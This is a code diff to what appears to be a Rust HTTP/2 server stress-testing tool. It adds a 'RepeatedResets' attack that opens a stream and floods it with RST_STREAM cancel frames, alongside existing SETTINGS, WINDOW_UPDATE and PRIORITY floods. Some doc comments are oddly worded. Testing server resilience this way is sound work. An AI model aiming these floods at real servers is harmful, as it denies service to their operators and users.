@@ -10,6 +10,7 @@
 //! ```
 
 mod almost_whole;
+mod unread;
 mod wire;
 
 use std::{io, net::SocketAddr, time::Duration};
@@ -18,6 +19,7 @@ use anyhow::{Context as _, Result};
 use tokio::{io::AsyncWriteExt as _, net::tcp::OwnedWriteHalf, select, time::timeout};
 
 pub use almost_whole::AlmostWhole;
+pub use unread::Unread;
 use wire::{
     ACK, CONTINUATION, DATA, END_HEADERS, GOAWAY, HEADERS, Hearing, LONGEST, PING, PREFACE,
     PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, begin, call, connect, frame, literal,
@@ -75,6 +77,8 @@ pub enum Attack {
     WindowUpdates,
     /// Gives a stream that there is not as many priorities.
     Priorities,
+    /// Gives up one call as often.
+    RepeatedResets,
 }
 
 /// What the server made of it.
@@ -127,6 +131,7 @@ impl Attack {
             Self::Settings => "SETTINGS",
             Self::WindowUpdates => "WINDOW_UPDATE",
             Self::Priorities => "PRIORITY",
+            Self::RepeatedResets => "resets of one call",
         }
     }
 
@@ -213,6 +218,10 @@ impl Attack {
             Self::Settings => flood(write, &frame(SETTINGS, 0, 0, &[])).await,
             Self::WindowUpdates => flood(write, &frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])).await,
             Self::Priorities => flood(write, &frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 1])).await,
+            Self::RepeatedResets => {
+                write.write_all(&open(1)).await?;
+                flood(write, &frame(RST_STREAM, 0, 1, &CANCEL)).await
+            }
             Self::SlowHandshake | Self::Connections | Self::Silence | Self::AlmostWholeMessages => {
                 Ok(())
             }
